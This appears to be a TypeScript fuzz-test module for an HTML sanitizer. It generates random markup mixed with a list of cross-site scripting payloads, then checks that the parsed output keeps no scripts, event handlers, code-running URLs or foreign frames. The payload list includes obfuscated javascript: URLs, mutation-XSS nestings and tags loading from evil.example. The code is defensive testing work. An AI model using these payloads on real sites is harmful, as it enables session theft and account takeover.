/**
 * Generated editor HTML with hostile fragments mixed into random markup, and
 * the property the sanitizer must keep: its output, parsed as a browser
 * parses it (parse5, the HTML standard's algorithm), has no script, style,
 * base, form or foreign frame, no event handler, and no URL that runs code.
 * Shared by `npm run fuzz:sanitize` and the build tests.
 */
import fc from "fast-check"
import { parseFragment } from "parse5"

import { EMBED_HOSTS } from "../src/content-model/embeds"
import { sanitizeContentHtml } from "../src/content-pipeline/sanitize"

/** The sanitizer's unit tests' attacks, and the classics they stand for. */
export const HOSTILE_FRAGMENTS = [
  "<script>steal()</script>",
  "<script src=//evil.example/x.js></script>",
  '<img src="/a.svg" alt="" onerror="steal()" style="x">',
  '<p onclick="steal()">Hei</p>',
  '<a href="javascript:steal()">klikk</a>',
  '<a href=" JaVaScRiPt:steal()">klikk</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example/x"></iframe>',
  '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://player.vimeo.com/video/1" allow="camera; microphone; geolocation"></iframe>',
  '<a href="https://a.no" target="_BLANK" rel="opener">a</a>',
  '<a href="https://a.no" target=" _blank">a</a>',
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="q"><button formaction="javascript:alert(1)">x</button></form>',
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<!--<img src=x onerror=alert(1)>-->",
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<a href="//evil.example">x</a>',
]

const TAGS = [
  "p",
  "a",
  "img",
  "iframe",
  "div",
  "span",
  "strong",
  "ul",
  "li",
  "table",
  "td",
  "svg",
  "math",
  "textarea",
  "title",
  "select",
  "option",
  "noscript",
  "xmp",
  "h2",
  "figure",
]
const ATTRIBUTES = [
  "href",
  "src",
  "onclick",
  "onerror",
  "onload",
  "style",
  "target",
  "rel",
  "allow",
  "title",
  "alt",
  "srcdoc",
  "formaction",
  "xlink:href",
  "data-x",
  "id",
]
const VALUES = [
  "javascript:alert(1)",
  "JAVASCRIPT:alert(1)",
  "\u0000javascript:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "https://www.youtube.com/embed/abc",
  "https://a.no/",
  "/program",
  "_blank",
  "opener",
  "camera",
  '"><script>alert(1)</script>',
  "alert(1)",
]

const text = fc.string({
  unit: fc.constantFrom("a", "ø", " ", "<", ">", "&", '"', "'", "/", "=", "!", "-", "\u2028", "\u0000"),
  maxLength: 12,
})
const attribute = fc
  .tuple(fc.constantFrom(...ATTRIBUTES), fc.oneof(fc.constantFrom(...VALUES), text), fc.constantFrom('"', "'", ""))
  .map(
    ([name, value, quote]) =>
      ` ${name}=${quote}${quote === "" ? value.replace(/[\s>]/g, "") : value.replaceAll(quote, "")}${quote}`,
  )

const { html } = fc.letrec<{ html: string; element: string; node: string }>((tie) => ({
  html: fc.array(tie("node"), { maxLength: 5 }).map((nodes) => nodes.join("")),
  node: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    text,
    fc.constantFrom(...HOSTILE_FRAGMENTS),
    tie("element"),
    fc.constantFrom("<", "</", "<a", '"', "<!--", "]]>", "<![CDATA[", "</p>", "<br/>"),
  ),
  element: fc
    .tuple(fc.constantFrom(...TAGS), fc.array(attribute, { maxLength: 3 }), tie("html"), fc.boolean())
    .map(([tag, attributes, inner, closed]) => `<${tag}${attributes.join("")}>${inner}${closed ? `</${tag}>` : ""}`),
}))

/** Editor HTML: random markup, random text and the hostile fragments, mixed. */
export const editorHtml = html

interface ParsedNode {
  nodeName: string
  tagName?: string
  attrs?: { name: string; value: string }[]
  childNodes?: ParsedNode[]
  content?: ParsedNode
}

const FORBIDDEN_TAGS = new Set([
  "script",
  "style",
  "base",
  "form",
  "object",
  "embed",
  "meta",
  "link",
  "svg",
  "math",
  "template",
  "noscript",
])
/** Attributes a browser reads as a URL to load or follow. */
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "srcset",
  "action",
  "formaction",
  "xlink:href",
  "poster",
  "data",
  "background",
  "cite",
])
const HIDDEN = /[\p{White_Space}\p{Cc}\p{Cf}]/gu

/** What is wrong with one element of the sanitizer's output, if anything. */
function faultOf(node: ParsedNode): string | undefined {
  const tag = node.tagName ?? node.nodeName
  if (FORBIDDEN_TAGS.has(tag)) return `a <${tag}> element`
  for (const { name, value } of node.attrs ?? []) {
    if (/^on/i.test(name)) return `an event handler ${name} on <${tag}>`
    if (name === "style" || name === "srcdoc") return `a ${name} attribute on <${tag}>`
    if (!URL_ATTRIBUTES.has(name)) continue
    const visible = value.replace(HIDDEN, "").toLowerCase()
    if (/^(javascript|vbscript|data):/.test(visible) || /^[/\\]{2}/.test(visible))
      return `a URL that runs code or leaves the site in ${name} on <${tag}>: ${JSON.stringify(value)}`
  }
  if (tag === "iframe") {
    const src = node.attrs?.find((attribute) => attribute.name === "src")?.value ?? ""
    let url: URL | undefined
    try {
      url = new URL(src)
    } catch {
      url = undefined
    }
    if (url?.protocol !== "https:" || !EMBED_HOSTS.includes(url.hostname))
      return `an inline frame from ${JSON.stringify(src)}`
    const allow = node.attrs?.find((attribute) => attribute.name === "allow")?.value
    if (allow !== undefined && /camera|microphone|geolocation/i.test(allow)) return `a frame allowed ${allow}`
  }
  if (tag === "a") {
    const target = node.attrs
      ?.find((attribute) => attribute.name === "target")
      ?.value.trim()
      .toLowerCase()
    const rel = node.attrs?.find((attribute) => attribute.name === "rel")?.value ?? ""
    if (target !== undefined && !["_self", "_parent", "_top"].includes(target) && !/\bnoopener\b/.test(rel))
      return `a link to a new window without noopener (rel=${JSON.stringify(rel)})`
  }
  return [...(node.childNodes ?? []), ...(node.content ? [node.content] : [])].map(faultOf).find(Boolean)
}

/** What in this HTML, parsed as a browser parses it, could run code or leave the site; undefined if nothing. */
export function leakIn(html: string): string | undefined {
  return faultOf(parseFragment(html) as unknown as ParsedNode)
}

/** Sanitizes the HTML and checks the result; throws, saying what survived, if anything did. */
export function checkSanitizer(input: string): string {
  const output = sanitizeContentHtml(input)
  const fault = leakIn(output)
  if (fault !== undefined) throw new Error(`The sanitizer let through ${fault}\n  output: ${JSON.stringify(output)}`)
  return output
}
